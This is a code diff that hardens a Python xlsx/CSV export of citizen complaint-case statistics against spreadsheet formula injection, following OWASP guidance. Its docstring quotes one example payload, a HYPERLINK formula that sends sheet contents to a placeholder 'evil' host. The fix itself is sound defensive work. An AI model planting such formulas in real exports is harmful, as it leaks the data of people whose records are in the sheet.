@@ -4,6 +4,13 @@ The xlsx follows the county bulletin's attachments (seed 001): 序号 | 部门�
 办结率 …, Chinese headers, percentages as Excel percentages (so they sort and sum), and a sheet
 with one row per case, streamed in openpyxl's write-only mode so a year of a big city's cases
 never has to fit in memory.
+
+Citizen text is data, never code (OWASP "CSV injection"): a text beginning with ``=``, ``+``,
+``-``, ``@``, tab or CR would be a live formula (``=HYPERLINK("http://evil/?"&A1, …)`` leaks the
+sheet). In the xlsx every string is written as a string cell with Excel's quote-prefix style, so
+it shows exactly as written and stays text even when edited; characters the file format forbids
+(control characters) are removed so one message cannot make the whole export fail. In CSV, which
+has no types, such a text gets a leading apostrophe, as OWASP recommends.
 """
 
 from __future__ import annotations
@@ -16,6 +23,7 @@ from typing import Any, TextIO
 
 from openpyxl import Workbook
 from openpyxl.cell import WriteOnlyCell
+from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE
 from openpyxl.styles import Font
 from openpyxl.utils import get_column_letter
 from openpyxl.worksheet._write_only import WriteOnlyWorksheet
@@ -126,6 +134,35 @@ def iter_case_rows(session: Session, scope: Scope, chunk: int = 5000) -> Iterato
                show(r[16]), show(r[17]), SATISFACTION_LABELS.get(r[18], r[18]), r[19]]
 
 
+FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
+
+
+def _text(value: str) -> str:
+    """A string the xlsx format can hold: control characters it forbids removed."""
+    return ILLEGAL_CHARACTERS_RE.sub("", value)
+
+
+def _cell(ws: WriteOnlyWorksheet, value: Any) -> WriteOnlyCell:
+    """A cell for ``value``; a string is always a string cell (never a formula), quote-prefixed."""
+    if isinstance(value, str):
+        c = WriteOnlyCell(ws, value=None)
+        c.value = _text(value)  # assigned, then typed: openpyxl would read a leading '=' as a formula
+        c.data_type = "s"
+        if value.startswith(FORMULA_START):
+            c.quotePrefix = True  # Excel's own "this is text" marker: shown as written, never evaluated
+        return c
+    return WriteOnlyCell(ws, value=value)
+
+
+def csv_safe(value: Any) -> Any:
+    """A CSV field that no spreadsheet will evaluate: a formula-like text gets a leading apostrophe."""
+    if isinstance(value, str):
+        value = _text(value)
+        if value.startswith(FORMULA_START):
+            return "'" + value
+    return value
+
+
 def _sheet(wb: Workbook, title: str, headers: list[str], rows: Iterator[list[Any]],
            formats: list[str | None], widths: list[int] | None = None) -> WriteOnlyWorksheet:
     ws = wb.create_sheet(title)
@@ -134,14 +171,14 @@ def _sheet(wb: Workbook, title: str, headers: list[str], rows: Iterator[list[Any
     bold = Font(bold=True)
     head = []
     for h in headers:
-        c = WriteOnlyCell(ws, value=h)
+        c = _cell(ws, h)
         c.font = bold
         head.append(c)
     ws.append(head)
     for row in rows:
         cells = []
         for value, fmt in zip(row, formats, strict=False):
-            c = WriteOnlyCell(ws, value=value)
+            c = _cell(ws, value)
             if fmt and isinstance(value, (int, float)):
                 c.number_format = fmt
             cells.append(c)
@@ -163,12 +200,12 @@ def write_xlsx(stats: dict[str, Any], path: Path, session: Session, scope: Scope
     ws.column_dimensions["B"].width = 16
     ws.append(["指标", "数值"])
     ws.append(["统计周期", f"{p['from']} 至 {p['to']}"])
-    ws.append(["统计截至", stats["as_of"]])
+    ws.append(["统计截至", _cell(ws, stats["as_of"])])
     for label, key, fmt in HEADLINE:
         value = stats[key]
         if fmt == HOURS and value is not None:
             value = round(value / 3600, 2)
-        c = WriteOnlyCell(ws, value=value)
+        c = _cell(ws, value)
         if fmt and value is not None:
             c.number_format = fmt
         ws.append([label, c])
@@ -190,8 +227,8 @@ def write_csv(stats: dict[str, Any], out: TextIO) -> None:
     w = csv.writer(out)
     w.writerow(["序号", "账号ID", *(h for h, _, _ in ACCOUNT_COLUMNS)])
     for i, r in enumerate(stats["by_account"], start=1):
-        w.writerow([i, r["account_id"] or "", *("" if (v := fn(r)) is None else v
-                                               for _, fn, _ in ACCOUNT_COLUMNS)])
+        w.writerow([i, csv_safe(r["account_id"] or ""), *("" if (v := fn(r)) is None else csv_safe(v)
+                                                         for _, fn, _ in ACCOUNT_COLUMNS)])
 
 
 def csv_text(stats: dict[str, Any]) -> str:
